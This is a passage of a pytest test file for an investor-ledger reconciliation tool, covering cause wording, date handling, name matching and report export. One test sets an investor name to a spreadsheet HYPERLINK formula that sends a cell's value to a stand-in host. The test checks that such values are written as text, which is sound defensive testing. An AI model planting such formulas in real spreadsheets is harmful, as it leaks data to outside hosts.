    assert reconcile.chosen_ledger(client, str(own)) == own
    shown: list[Any] = []
    monkeypatch.setattr(panels, "display", lambda item, **_metadata: shown.append(item))
    monkeypatch.setattr(type(client.config), "is_sandbox", property(lambda _self: False))
    assert reconcile.chosen_ledger(client, None) is None and reconcile.chosen_ledger(client, "") is None
    assert panels.report_for(client, None) is None
    said = " ".join(str(getattr(item, "data", item)) for item in shown)
    assert "nothing was compared" in said and "upload" in said.lower()
    panels.export_report(None, tmp_path / "out", "reconciliation")
    assert not (tmp_path / "out").exists()
    with pytest.raises(helpers.InputError) as caught:
        reconcile.chosen_ledger(client, str(sample))
    assert "LEDGER_PATH" in caught.value.field_errors and "demo" in str(caught.value.field_errors)
    report = panels.report_for(client, str(own))
    assert report is not None and report.checked_pairs == 1


def test_the_ledgers_as_of_date_is_shown_in_the_report_and_its_files(
    client: helpers.Client, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    product = client.config.product_id
    other = "4fa85f64-5717-4562-b3fc-2c963f66afa7"
    path = ledger_file(
        tmp_path,
        [
            {"investor_id": UNKNOWN, "product_id": product, "units": 12, "as_of": "2024-06-30"},
            {"investor_id": other, "product_id": product, "units": 0, "as_of": "2024-06-30"},
        ],
    )
    report = reconcile.reconcile(client, reconcile.read_ledger(path))
    assert report.as_of == "2024-06-30"
    shown: list[Any] = []
    monkeypatch.setattr(panels, "display", lambda item, **_metadata: shown.append(item))
    panels.show_report(report)
    assert "The books as of 2024-06-30" in str(getattr(shown[0], "data", shown[0]))
    csv = pd.read_csv(report.to_csv(tmp_path / "out.csv"), dtype=str)
    assert csv["as_of"].tolist() == ["2024-06-30"]
    sheet = openpyxl.load_workbook(report.to_excel(tmp_path / "out.xlsx"))["differences"]
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(2, header.index("as_of") + 1).value == "2024-06-30"
    several = ledger_file(
        tmp_path,
        [
            {"investor_id": UNKNOWN, "product_id": product, "units": 12, "as_of": "2024-06-30"},
            {"investor_id": other, "product_id": product, "units": 0, "as_of": "2024-06-28"},
        ],
        name="several.csv",
    )
    assert reconcile.reconcile(client, reconcile.read_ledger(several)).as_of == "2024-06-28 to 2024-06-30"
    undated = ledger_file(tmp_path, [{"investor_id": UNKNOWN, "product_id": product, "units": 12}], name="u.csv")
    plain = reconcile.reconcile(client, reconcile.read_ledger(undated))
    assert plain.as_of is None and "gives no as_of date" in plain.dated()
    partly = ledger_file(  # review 63: the undated row was shown with the other row's date, and the header hid it
        tmp_path,
        [
            {"investor_id": UNKNOWN, "product_id": product, "units": 12, "as_of": ""},
            {"investor_id": other, "product_id": product, "units": 5, "as_of": "2024-06-30"},
        ],
        name="partly.csv",
    )
    report = reconcile.reconcile(client, reconcile.read_ledger(partly))
    dates = report.differences.set_index("investor_id")["as_of"]
    assert pd.isna(dates[UNKNOWN]) and dates[other] == "2024-06-30"
    assert "(the ledger's as_of; 1 of its rows gives no date)" in report.dated()


def test_a_shortfall_redeemed_after_the_books_date_says_so() -> None:
    """Books of 1 November against a registry where 60 units were redeemed on the 10th: the cause names the
    redemptions (it said a credit or an investment was missing)."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 100, "as_of": "2026-11-01"}])
    investments = delivered(100, 40, "2026-10-01")
    redemptions = redeemed((60, "2026-11-10T09:00:00+00:00"), (5, "2026-10-10T09:00:00+00:00"))  # (r0: in them)
    now = datetime(2026, 11, 26, tzinfo=UTC)
    report = reconcile.compare(ledger, investments, redemptions, timedelta(days=3), now)
    assert report.differences["cause"].tolist() == [  # (one sentence for what happened since, in both directions)
        "After the books' date (2026-11-01), 60 units were redeemed, which books of that date cannot show: that is "
        "the difference."
    ]
    short = reconcile.compare(ledger.assign(units=90), investments, redemptions, timedelta(days=3), now)
    assert short.differences["cause"].tolist() == [  # review 46: 'the rest: a credit missing?' pointed the wrong way
        "After the books' date (2026-11-01), 60 units were redeemed, which books of that date cannot show; so books "
        "of that date should show 100 units, but show 90: 10 units fewer than the registry held then (a booking "
        "missing, or a redemption booked but not made?)."  # (review 51: 'without them' said it the wrong way round)
    ]
    more = reconcile.compare(ledger.assign(units=120), investments, redemptions, timedelta(days=3), now)
    said = more.differences["cause"].iloc[0]  # redeemed since, and still short: the rest said as such
    assert said.endswith(
        "so books of that date should show 100 units, but show 120: 20 units more than the registry held then "
        "(the 5 units redeemed before that date, if the books did not book them; or units booked before the "
        "registry delivered them, or a credit or an investment missing?)."  # (review 91: those before it too)
    )
    undated = reconcile.compare(ledger.drop(columns="as_of"), investments, redemptions, timedelta(days=3), now)
    assert undated.differences["cause"].tolist() == [  # review 45: it said a credit or an investment was missing
        "The books booked units the registry has not delivered (a credit or an investment missing?), or the books "
        "missed some of the redemptions of 65 units the registry has of this position (they give no date to tell)."
    ]
    fewer = reconcile.compare(
        ledger.drop(columns="as_of").assign(units=105), investments, redemptions, timedelta(days=3), now
    )
    assert fewer.differences["cause"].str.endswith("to tell): that may be the difference.").all()


def test_an_investment_waiting_since_a_time_that_cannot_be_read_is_shown_and_explains_the_shortfall() -> None:
    """Review 63: a paid investment whose time the registry wrote as '03.02.2024 10:00' was left out (no 'stuck'
    row), and the shortfall it explains read as 'a credit or an investment missing?'."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 300, "investor_name": "Grace Hopper"}])
    investments = pd.DataFrame(
        [
            {
                "id": "i1",
                "investor_id": "a",
                "product_id": "p",
                "status": "PAID",
                "units": 300,
                "held_units": 0,
                "since": pd.NaT,
                "since_given": "03.02.2024 10:00",
            }
        ],
        columns=reconcile.INVESTMENT_COLUMNS,
    )
    report = reconcile.compare(
        ledger, investments, pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 26, tzinfo=UTC)
    )
    grouped = reconcile.group_related(report.differences)
    assert grouped["category"].tolist() == ["units_differ", "stuck"]
    assert grouped["message"].iloc[1] == (
        "Investment of 300 units is paid; since when cannot be told: the registry gives its time as '03.02.2024 "
        "10:00', which the toolkit cannot read."
    )
    assert grouped["cause"].iloc[0].startswith("Explained by 1 investment of 300 units stuck (paid: i1)")
    assert grouped["cause"].iloc[1].endswith("It explains the 300 units fewer above.")
    fresh = investments.assign(since=pd.Timestamp("2026-11-25", tz="UTC"), since_given="2026-11-25T00:00:00Z")
    assert reconcile.compare(  # waiting a day, with a time that can be read: not stuck (yet)
        ledger, fresh, pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 26, tzinfo=UTC)
    ).differences["category"].tolist() == ["units_differ"]


def test_a_shortfall_names_the_investments_that_ended_without_delivering() -> None:
    """Review 63: books that booked an investment the issuer rejected read 'a credit or an investment missing?', and
    nothing named the rejected investment."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 300, "investor_name": "Grace Hopper"}])
    row = {"investor_id": "a", "product_id": "p", "held_units": 0, "since": pd.NaT}
    rejected = {**row, "id": "417d619b-aaaa", "status": "REJECTION", "units": 300}
    now = datetime(2026, 11, 26, tzinfo=UTC)

    def cause(*investments: dict[str, Any]) -> str:
        frame = pd.DataFrame(list(investments), columns=reconcile.INVESTMENT_COLUMNS)
        return str(reconcile.compare(ledger, frame, pd.DataFrame(), timedelta(days=3), now).differences["cause"][0])

    assert cause(rejected) == (
        "The registry has 1 investment of 300 units of this position that ended without delivering (rejected by the "
        "issuer: 417d619b): if the books booked it, that would be the difference; reverse it in the books. "
        "Otherwise, the books booked units the registry has not delivered (a credit or an investment missing?)."
    )
    cancelled = {**row, "id": "99999999-bbbb", "status": "CANCELLATION", "units": 100}
    assert cause(cancelled) == (
        "The books booked units the registry has not delivered (a credit or an investment missing?). The registry "
        "has 1 investment of 100 units of this position that ended without delivering (cancelled by the investor: "
        "99999999), which the books may have booked."
    )
    # review 64: books of 1 November, 60 units redeemed on the 10th, and a cancelled investment of 60: the redemption
    # is the difference, and stays said (the ended investment replaced it)
    dated = ledger.assign(units=100, as_of="2026-11-01")
    held = {**row, "id": "d", "status": "DELIVERED", "units": 100, "held_units": 40}
    frame = pd.DataFrame([held, {**cancelled, "units": 60}], columns=reconcile.INVESTMENT_COLUMNS)
    report = reconcile.compare(dated, frame, redeemed((60, "2026-11-10T10:00:00Z")), timedelta(days=3), now)
    assert report.differences["cause"].tolist() == [
        "After the books' date (2026-11-01), 60 units were redeemed, which books of that date cannot show: that is "
        "the difference."
    ]
    held = {**held, "held_units": 70}  # 30 redeemed since; books of 130 booked the cancelled 30 too
    frame = pd.DataFrame([held, {**cancelled, "units": 30}], columns=reconcile.INVESTMENT_COLUMNS)
    report = reconcile.compare(
        dated.assign(units=130), frame, redeemed((30, "2026-11-10T10:00:00Z")), timedelta(days=3), now
    )
    assert report.differences["cause"][0].endswith(
        "30 units more than the registry held then (units booked before the registry delivered them, or a credit or "
        "an investment missing?). The registry has 1 investment of 30 units of this position that ended without "
        "delivering (cancelled by the investor: 99999999): if the books booked it, that would be what is left of the "
        "difference; reverse it in the books."
    )


def test_an_investment_in_a_status_the_documentation_does_not_name_is_its_own_difference() -> None:
    """A registry that answers 'SETTLED' (review 45): its units are not taken as held without a word; the report
    names the investment and the status, and what to do."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 15, "investor_name": "Ada Lovelace"}])
    investments = pd.DataFrame(
        [
            {"id": "i1", "investor_id": "a", "product_id": "p", "status": "SETTLED", "units": 12, "held_units": 0},
            {"id": "i2", "investor_id": "a", "product_id": "p", "status": None, "units": 3, "held_units": 0},
        ],
        columns=reconcile.INVESTMENT_COLUMNS,
    )
    now = datetime(2026, 11, 26, tzinfo=UTC)
    report = reconcile.compare(ledger, investments, pd.DataFrame(), timedelta(days=3), now)
    unknown = report.differences[report.differences["category"] == "status_unknown"]
    assert unknown["message"].tolist() == [
        "Investment of 12 units is in the status 'SETTLED', which the registry's documentation does not name: its "
        "units are not counted as held.",
        "Investment of 3 units has no status: its units are not counted as held.",
    ]
    assert unknown["investor_name"].tolist() == ["Ada Lovelace"] * 2 and "Cashlink Studio" in unknown["action"].iloc[0]
    assert report.summary().set_index("category").loc["status_unknown", "count"] == 2
    grouped = reconcile.group_related(report.differences)
    assert grouped["category"].tolist() == ["units_differ", "status_unknown", "status_unknown"]
    assert grouped["cause"].iloc[0] == (
        "Explained by 2 investments of 15 units in a status not known to be delivered (SETTLED, no status: i1, i2): "
        "the books booked them, and the registry does not say they are delivered."
    )


def test_a_wait_that_ends_in_a_status_the_documentation_does_not_name_says_so(client: helpers.Client) -> None:
    def ended_waiting(status: str) -> str:
        with pytest.raises(helpers.TaskError) as caught:
            client.wait(
                lambda: Record({"id": "i1", "status": status}),
                "credit",
                timeout=0,
                done=lambda r: False,
                failed=lambda r: False,
            )
        return caught.value.message

    said = ended_waiting("SETTLED")
    assert "'SETTLED' is a status the registry's documentation does not name" in said
    assert "check again later" not in said
    for documented in ("PAID", "PROCESSING", "processing", "Paid"):  # review 47: a documented status in any case
        assert "check again later" in ended_waiting(documented), documented


def test_deliveries_and_redemptions_after_the_books_date_explain_a_surplus_too() -> None:
    """Review 48: the registry held more than books of 1 November after a credit and a redemption on the 26th, and
    the cause was only 'a booking missing?'."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 0, "as_of": "2026-11-01"}])
    investments, redemptions = delivered(40, 25, "2026-11-26"), redeemed((15, "2026-11-26T10:00:00+00:00"))
    now = datetime(2026, 11, 26, 12, tzinfo=UTC)
    report = reconcile.compare(ledger, investments, redemptions, timedelta(days=3), now)
    assert report.differences["cause"].tolist() == [
        "After the books' date (2026-11-01), 40 units were delivered and 15 units were redeemed, which books of that "
        "date cannot show: that is the difference."
    ]
    more = reconcile.compare(ledger.assign(units=-10), investments, redemptions, timedelta(days=3), now)
    said = more.differences["cause"].iloc[0]
    assert said.endswith(
        "cannot show; so books of that date should show 0 units, but show -10: 10 units fewer than the registry held "
        "then (a booking missing, or a redemption booked but not made?)."
    )
    ahead = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 600, "as_of": "2026-11-20"}])
    all_later = reconcile.compare(  # review 53: 'the books would give 600 units more' beside a difference of -15
        ahead, delivered(600, 585, "2026-11-26"), redeemed((15, "2026-11-26T10:00:00+00:00")), timedelta(days=3), now
    )
    assert (
        all_later.differences["cause"]
        .iloc[0]
        .endswith(
            "so books of that date should show 0 units, but show 600: 600 units more than the registry held then "
            "(units booked before the registry delivered them, or a credit or an investment missing?)."
        )
    )


def delivered(units: int, held: int, day: str) -> pd.DataFrame:
    """Investor a's one investment in product p, delivered on ``day``, holding ``held`` of its ``units`` now."""
    row = {"id": "i", "investor_id": "a", "product_id": "p", "status": "DELIVERED", "units": units, "held_units": held}
    return pd.DataFrame([{**row, "since": pd.Timestamp(day, tz="UTC")}], columns=reconcile.INVESTMENT_COLUMNS)


def redeemed(*redemptions: tuple[int, str]) -> pd.DataFrame:
    """Successful redemptions of investor a in product p: (units, when)."""
    return pd.DataFrame(
        [
            {
                "id": f"r{n}",
                "investor_id": "a",
                "product_id": "p",
                "units": units,
                "status": "success",
                "created_at": at,
            }
            for n, (units, at) in enumerate(redemptions)
        ]
    )


def test_deliveries_and_redemptions_are_dated_by_one_rule_at_the_edge_of_the_books_date() -> None:
    """Review 49: a redemption at 00:30 +01:00 on 2 November counted as after books of 1 November (its local day),
    a delivery at the same moment as before (its UTC day): the cause pointed the wrong way."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 0, "as_of": "2026-11-01"}])
    moment = "2026-11-02T00:30:00+01:00"  # 23:30 UTC on 1 November: within books of that day, both of them
    report = reconcile.compare(
        ledger, delivered(40, 25, moment), redeemed((15, moment)), timedelta(days=3), datetime(2026, 11, 26, tzinfo=UTC)
    )
    assert report.differences["cause"].tolist() == [
        "On the books' date itself (2026-11-01), 40 units were delivered and 15 units were redeemed, which books of "
        "that date may or may not show: all of them would be the difference. Otherwise, the registry delivered units "
        "the books do not show (a booking missing, or a redemption booked but not made?)."  # (review 62; by UTC day)
    ]


def test_a_redemption_made_later_on_the_books_date_is_named_as_the_likely_difference() -> None:
    """Review 62: 50 units redeemed in the morning (booked), 30 in the afternoon (not yet), books of that date say
    70 and the registry holds 40: the cause blamed a missing credit."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 70, "as_of": "2026-11-27"}])
    morning, afternoon = "2026-11-27T09:00:00Z", "2026-11-27T15:00:00Z"
    report = reconcile.compare(
        ledger,
        delivered(120, 40, "2026-11-20"),
        redeemed((50, morning), (30, afternoon)),
        timedelta(days=3),
        datetime(2026, 11, 27, 16, tzinfo=UTC),
    )
    assert report.differences["cause"].tolist() == [
        "On the books' date itself (2026-11-27), 50 and 30 units were redeemed, which books of that date may or may "
        "not show: the 30 units redeemed alone would be the difference. Otherwise, the books booked units the "
        "registry has not delivered (a credit or an investment missing?)."
    ]


def test_three_possible_causes_read_as_three_not_as_otherwise_twice() -> None:
    """Books of 27 November show 30 units the registry no longer holds: 30 units were redeemed that afternoon, and an
    investment of 30 units was rejected. Either explains the difference, or else a credit is missing: 'Otherwise'
    came twice in one cause."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 30, "as_of": "2026-11-27"}])
    rejected = {"id": "417d619b-aaaa", "investor_id": "a", "product_id": "p", "status": "REJECTION", "units": 30}
    investments = pd.concat(
        [delivered(30, 0, "2026-11-20"), pd.DataFrame([{**rejected, "held_units": 0, "since": pd.NaT}])],
        ignore_index=True,
    )
    report = reconcile.compare(
        ledger,
        investments,
        redeemed((30, "2026-11-27T15:00:00Z")),
        timedelta(days=3),
        datetime(2026, 11, 27, 16, tzinfo=UTC),
    )
    assert report.differences["cause"].tolist() == [
        "On the books' date itself (2026-11-27), 30 units were redeemed, which books of that date may or may not "
        "show: that would be the difference. Otherwise, the registry has 1 investment of 30 units of this position "
        "that ended without delivering (rejected by the issuer: 417d619b): if the books booked it, that would be the "
        "difference; reverse it in the books. If neither, the books booked units the registry has not delivered (a "
        "credit or an investment missing?)."
    ]


def positions(*investments: tuple[str, int, int, str]) -> pd.DataFrame:
    """Delivered investments in product p: (investor id, units, held now, day delivered)."""
    return pd.DataFrame(
        [
            {"id": f"i{n}", "investor_id": investor, "product_id": "p", "status": "DELIVERED", "units": units}
            | {"held_units": held, "since": pd.Timestamp(day, tz="UTC")}
            for n, (investor, units, held, day) in enumerate(investments)
        ],
        columns=reconcile.INVESTMENT_COLUMNS,
    )


def redeemed_by(*redemptions: tuple[str, int, str | None]) -> pd.DataFrame:
    """Successful redemptions in product p: (investor id, units, when)."""
    return pd.DataFrame(
        [
            {"id": f"r{n}", "investor_id": investor, "product_id": "p", "units": units, "status": "success"}
            | {"created_at": at}
            for n, (investor, units, at) in enumerate(redemptions)
        ]
    )


def test_a_position_the_books_miss_says_when_it_was_delivered_after_their_date() -> None:
    """Review 71: books of 1 November; a position delivered on the 27th read 'The books miss this position (a booking
    not made yet?)' under a header giving the books' date. Partly delivered after it: both parts are said. Reviews
    72-75: redemptions since count too; a move without a date says nothing more; moves of the books' date itself,
    which books of that date may or may not show, give both figures."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 0, "as_of": "2026-11-01"}])

    def found(investments: pd.DataFrame, redemptions: pd.DataFrame | None = None) -> pd.DataFrame:
        report = reconcile.compare(
            ledger,
            investments,
            pd.DataFrame() if redemptions is None else redemptions,
            timedelta(days=3),
            datetime(2026, 11, 27, 16, tzinfo=UTC),
        )
        return report.differences.set_index("investor_id")

    # b: all of it delivered after the date; c: 30 before, 20 after
    missing = found(positions(("b", 50, 50, "2026-11-27"), ("c", 30, 30, "2026-10-01"), ("c", 20, 20, "2026-11-20")))
    assert missing.loc["b", "cause"] == (
        "50 units were delivered after the books' date (2026-11-01), which books of that date cannot show; later "
        "books should."
    )
    assert missing.loc["b", "action"].startswith("Nothing to correct in books of that date")
    assert missing.loc["c", "cause"] == (
        "20 units were delivered after the books' date (2026-11-01), which books of that date cannot show; they "
        "should show 30 units (a booking not made yet?)."
    )
    # d: 100 before the date, all redeemed since, and 100 after (books of that date should show 100, not 'nothing to
    # correct'); e: 100 before, 40 of them redeemed since, 50 after
    more = positions(
        ("d", 100, 0, "2026-10-01"),
        ("d", 100, 100, "2026-11-20"),
        ("e", 100, 60, "2026-10-01"),
        ("e", 50, 50, "2026-11-20"),
    )
    since = redeemed_by(("d", 100, "2026-11-10"), ("e", 40, "2026-11-10"))
    assert found(more, since)["cause"].to_dict() == {
        "d": "100 units were delivered and 100 units were redeemed after the books' date (2026-11-01), which books "
        "of that date cannot show; they should show 100 units (a booking not made yet?).",
        "e": "50 units were delivered and 40 units were redeemed after the books' date (2026-11-01), which books of "
        "that date cannot show; they should show 100 units (a booking not made yet?).",
    }
    causes = found(more, redeemed_by(("d", 100, None), ("e", 40, "2026-11-10")))["cause"]  # d's without a date
    assert causes["d"] == "The books miss this position (a booking not made yet?)." and "40 units were" in causes["e"]
    # f: only redeemed since (100 before, 40 redeemed since: books of that date should show 100); g: a redemption on
    # the books' date itself too
    causes = found(
        positions(("f", 100, 60, "2026-10-01"), ("g", 100, 40, "2026-10-01"), ("g", 20, 20, "2026-11-20")),
        redeemed_by(("f", 40, "2026-11-10"), ("g", 30, "2026-11-01T15:00:00Z"), ("g", 30, "2026-11-05")),
    )["cause"]
    assert causes["f"] == (
        "40 units were redeemed after the books' date (2026-11-01), which books of that date cannot show; they should "
        "show 100 units (a booking not made yet?)."
    )
    assert causes["g"] == (
        "On the books' date itself (2026-11-01), 30 units redeemed, which books of that date may or may not show; "
        "after it, 20 units were delivered and 30 units were redeemed. Books of that date should show 70 units if they "
        "show that day's moves, 100 if not."
    )
    # h: 30 held, all redeemed on the books' date, 50 delivered after it: books listing nothing are right if they show
    # that day's redemption
    h = found(
        positions(("h", 30, 0, "2026-10-01"), ("h", 50, 50, "2026-11-20")),
        redeemed_by(("h", 30, "2026-11-01T15:00:00Z")),
    )
    assert h.loc["h", "cause"] == (
        "On the books' date itself (2026-11-01), 30 units redeemed, which books of that date may or may not show; "
        "after it, 50 units were delivered. Books of that date should show 0 units if they show that day's moves, "
        "30 if not."
    )
    assert h.loc["h", "action"] == (
        "Nothing to correct if the books show that day's moves; otherwise add the position to the books."
    )


def test_a_partly_explained_shortfall_reads_well_whatever_its_rows_say() -> None:
    """Review 57: 'remain' for one unit, 'nan' for a row without an action, 'kYC' for an abbreviation."""
    one_left = reconcile.group_related(
        _detail([_shortfall("i5", -41), _stuck("i5", 40, "k", "PAID", "Paid.", "KYC first, then credit it.")])
    )
    assert (
        one_left["action"][0] == "Finish the investment below: KYC first, then credit it; then 1 unit of the "
        "difference remains."
    )
    no_action = reconcile.group_related(_detail([_shortfall("i6", -41), _stuck("i6", 40, "n", "PAID", "Paid.", None)]))
    assert no_action["action"][0].startswith("Finish the investment below: see the rows; then 1 unit")


def test_a_workbook_given_as_bytes_without_a_name_is_read_as_a_workbook() -> None:
    """A program that passes an upload's content alone: a workbook was refused as 'upload.csv is a ZIP archive'."""
    raw = (ROOT / "samples" / "ledger_demo.csv").read_bytes()
    workbook = io.BytesIO()
    pd.read_csv(io.BytesIO(raw), dtype=str).to_excel(workbook, index=False)
    assert reconcile.read_ledger(workbook.getvalue()).equals(reconcile.read_ledger(raw))


def test_books_of_a_date_that_miss_a_redemption_made_before_it_are_told_so() -> None:
    """Review 90: books of 30 November still show 10 units of which 3 were redeemed on the 25th; the cause blamed a
    missing credit."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 10, "as_of": "2026-11-30"}])
    report = reconcile.compare(
        ledger,
        delivered(10, 7, "2026-11-20"),
        redeemed((3, "2026-11-25T10:00:00Z")),
        timedelta(days=3),
        datetime(2026, 11, 30, 16, tzinfo=UTC),
    )
    assert report.differences["cause"].tolist() == [
        "The registry has redemptions of 3 units of this position made before the books' date (2026-11-30), which "
        "the books may not have booked: that may be the difference."
    ]


def test_books_that_miss_a_redemption_before_their_date_and_show_none_after_are_told_both() -> None:
    """Review 91: 3 units redeemed before the books' date and 2 after: the cause named the 2 and blamed a missing
    credit for the other 3."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 10, "as_of": "2026-11-30"}])
    report = reconcile.compare(
        ledger,
        delivered(10, 5, "2026-11-01"),
        redeemed((3, "2026-11-25T10:00:00Z"), (2, "2026-12-05T10:00:00Z")),
        timedelta(days=3),
        datetime(2026, 12, 10, 16, tzinfo=UTC),
    )
    (cause,) = report.differences["cause"].tolist()
    assert cause.endswith(
        "(the 3 units redeemed before that date, if the books did not book them: that would be it)."
    ), cause


@pytest.mark.parametrize(
    ("entries", "said"),
    [
        ({"word/document.xml": "<w/>"}, "upload.docx is a Word document (.docx), not a spreadsheet."),
        ({"ppt/presentation.xml": "<p/>"}, "upload.pptx is a PowerPoint presentation (.pptx), not a spreadsheet."),
        ({"notes.txt": "hello"}, "upload.zip is a ZIP archive of other files, not a spreadsheet."),
    ],
)
def test_an_archive_given_as_bytes_without_a_name_is_said_as_what_it_holds(entries: dict[str, str], said: str) -> None:
    """Review 91: an unnamed .docx or ZIP was called a damaged 'upload.xlsx'."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as files:
        for entry, text in entries.items():
            files.writestr(entry, text)
    with pytest.raises(SpreadsheetError) as refused:
        reconcile.read_ledger(archive.getvalue())
    assert str(refused.value).startswith(said)
    with pytest.raises(SpreadsheetError) as named:  # (named as a workbook, it is said as what it is too)
        reconcile.read_ledger(archive.getvalue(), name="books.xlsx")
    assert str(named.value).startswith(said.replace(said.split(maxsplit=1)[0], "books.xlsx"))


def test_books_that_miss_redemptions_before_their_date_and_on_it_are_told_in_one_cause() -> None:
    """Review 91: 3 units redeemed before the books' date and 2 on it explain a shortfall of 5 together; the cause
    read 'the other 2 units: a credit or an investment missing?' and then named the 2 of that day apart."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 10, "as_of": "2026-11-30"}])
    report = reconcile.compare(
        ledger,
        delivered(10, 5, "2026-11-20"),
        redeemed((3, "2026-11-25T10:00:00Z"), (2, "2026-11-30T10:00:00Z")),
        timedelta(days=3),
        datetime(2026, 12, 2, 16, tzinfo=UTC),
    )
    assert report.differences["cause"].tolist() == [
        "The registry has redemptions of 3 units of this position made before the books' date (2026-11-30), and on "
        "that date itself 2 units were redeemed, which books of that date may or may not show: if the books booked "
        "none of them, that would be the difference."
    ]


def test_the_reports_files_hold_text_that_looks_like_a_formula_as_text(tmp_path: Path) -> None:
    """Review 93: a name from the books (or the registry) written '=HYPERLINK(...)' was a live formula in the
    report's Excel file and began with '=' in its CSV file."""
    formula = '=HYPERLINK("https://example.invalid/?id="&B2,"Peter")'
    ledger = pd.DataFrame(
        [{"investor_id": "a", "product_id": "p", "units": 9, "investor_ref": "=1+1", "investor_name": formula}]
    )
    report = reconcile.compare(
        ledger, delivered(10, 10, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
    )
    sheet = openpyxl.load_workbook(report.to_excel(tmp_path / "r.xlsx"))["differences"]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[formula] == "s" and cells["=1+1"] == "s"  # text, shown as written
    assert not [value for value, kind in cells.items() if kind == "f"]
    written = pd.read_csv(report.to_csv(tmp_path / "r.csv"), dtype=str)
    assert written.loc[0, "investor_name"] == "'" + formula and written.loc[0, "investor_ref"] == "'=1+1"


def test_a_reports_repr_names_nobody_and_its_html_counts_what_was_found() -> None:
    """Review 92: showing the report in a notebook gave the dataclass's repr: the rows, with names, NaN and
    datetime.datetime(...)."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 9, "investor_name": "Ada Lovelace"}])
    report = reconcile.compare(
        ledger, delivered(10, 10, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
    )
    with pd.option_context("display.max_columns", None, "display.width", 10000):
        shown = [repr(report), str(report), report._repr_html_()]
    assert repr(report).startswith(
        "<Reconciliation: 1 difference found comparing 1 investor/product position (1 investment, 0 "
    )
    assert not [text for text in shown if "Lovelace" in text or "NaN" in text or "datetime." in text]
    assert "<td>units differ</td>" in report._repr_html_() and "<td>1</td>" in report._repr_html_()


def test_books_that_name_an_investor_otherwise_than_the_registry_say_so_first() -> None:
    """Review 93: two ledger rows with their investor ids swapped read as two differences of the books' names, and
    the advice corrected the wrong investors; names written otherwise (case, accents, order, initials) are one."""
    ledger = pd.DataFrame(
        [
            {"investor_id": "a", "product_id": "p", "units": 9, "investor_name": "Peter Hase"},
            {"investor_id": "b", "product_id": "p", "units": 10, "investor_name": "Peter Gans"},
        ]
    )
    registry = pd.concat([delivered(10, 10, "2026-11-01"), delivered(9, 9, "2026-11-01").assign(investor_id="b")])
    report = reconcile.compare(ledger, registry, pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC))
    named = reconcile.with_names(report.differences, {"a": "Peter Gans", "b": "Peter Hase"})
    assert named["cause"].str.startswith("The books name this investor Peter Hase, the registry Peter Gans: if").any()
    assert named["action"].str.startswith("First check the investor id in the books.").all()
    assert named["investor_name"].tolist() == ["Peter Hase", "Peter Gans"]  # (the books' names, as they wrote them)
    one = [
        ("LOVELACE, Ada", "Ada Lovelace"),
        ("A. M. Lovelace", "Ada Lovelace"),
        ("Jörg Müller", "Joerg Mueller"),
        ("Muller", "Müller"),  # review 94: the dots dropped, not spelt out
        ("Søren Kierkegaard", "Soren Kierkegaard"),
        ("Łukasz Nowak", "Lukasz Nowak"),
        ("Hans Peter Meier", "Hanspeter Meier"),
        ("Dr. Ada Lovelace", "Ada Lovelace"),
        ("Acme GmbH", "ACME GmbH & Co. KG"),
    ]
    for books, registry in one:
        assert reconcile.same_name(books, registry), books
    two = [
        ("Peter Hase", "Peter Gans"),
        ("Peter Müller", "Peter Müller Holding GmbH"),
        ("Peter Schmidt", "Peter Schmidt jun."),
    ]
    for books, registry in two:  # (review 94: a person and a company named after them, a father and a son)
        assert not reconcile.same_name(books, registry), books


def test_a_mistyped_investor_id_and_an_unknown_product_are_said_as_such() -> None:
    """Review 93: a mistyped id read as two unrelated differences; an unknown product as an unknown investor, with
    the advice to import an investment into it."""
    ledger = pd.DataFrame(
        [
            {"investor_id": "a-typo", "product_id": "p", "units": 10, "investor_name": "Peter Eule"},
            {"investor_id": "c", "product_id": "nowhere", "units": 5, "investor_name": "Carl Dachs"},
            {"investor_id": "gone", "product_id": "p", "units": 5, "investor_name": "Nobody"},
        ]
    )
    report = reconcile.compare(
        ledger, delivered(10, 10, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
    )
    names = {"a": "Peter Eule", "c": "Carl Dachs"}
    checked = reconcile.with_ids_checked(reconcile.with_names(report.differences, names), set(names), {"p"})
    causes = dict(zip(checked["investor_id"], checked["cause"], strict=True))
    assert causes["a-typo"] == (
        "The registry's investor a, of the same name, holds these 10 units of this product: the investor id in the "
        "books, a-typo, may be mistyped."
    )
    assert causes["a"] == (
        "The books list these 10 units of this product under the investor id a-typo, of the same name: it may be "
        "this investor's id (a) mistyped."
    )
    assert causes["c"] == "The registry has no product with the id nowhere: a wrong product id in the books?"
    assert causes["gone"] == "The registry has no investor with this id: a wrong investor id in the books?"
    assert "import" not in " ".join(checked["action"])


def test_books_kept_in_another_time_zone_date_the_registrys_moves_by_their_day() -> None:
    """Review 93: books of 27 November in New York rightly showed a redemption made at 19:15 there (00:15 UTC on the
    28th); read as a UTC day, the cause said it came after them and blamed 95 units on a missing booking."""
    ledger = pd.DataFrame([{"investor_id": "a", "product_id": "p", "units": 455, "as_of": "2026-11-27"}])
